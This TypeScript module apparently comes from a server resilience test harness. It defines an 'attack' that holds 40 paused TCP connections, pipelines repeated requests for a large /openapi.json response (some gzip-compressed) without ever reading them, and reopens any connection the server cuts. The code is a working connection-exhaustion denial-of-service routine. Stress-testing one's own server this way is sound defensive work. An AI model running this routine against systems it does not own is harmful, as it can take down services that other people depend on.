import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.ts';

const CLIENTS = 40;
const REQUESTS = 40;

export const attack: Attack = {
  name: 'connections repeatedly request a large answer, compressed or not, and never read it',
  async run({ url, signal }) {
    const { hostname, port, host } = new URL(url);
    const counts = { requests: 0, cut: 0 };
    const open = (n: number): Socket => {
      const socket = connect(Number(port), hostname).pause();
      const coding = n % 2 === 0 ? 'accept-encoding: gzip\r\n' : '';
      socket.write(`GET /openapi.json HTTP/1.1\r\nhost: ${host}\r\n${coding}\r\n`.repeat(REQUESTS));
      counts.requests += REQUESTS;
      return socket
        .on('error', () => {})
        .once('close', () => {
          counts.cut += signal.aborted ? 0 : 1;
          if (!signal.aborted) sockets[n] = open(n);
        });
    };
    const sockets: Socket[] = [];
    for (let n = 0; n < CLIENTS; n += 1) sockets[n] = open(n);
    while (!signal.aborted) await delay(50);
    for (const socket of sockets) socket.destroy();
    return counts;
  },
};
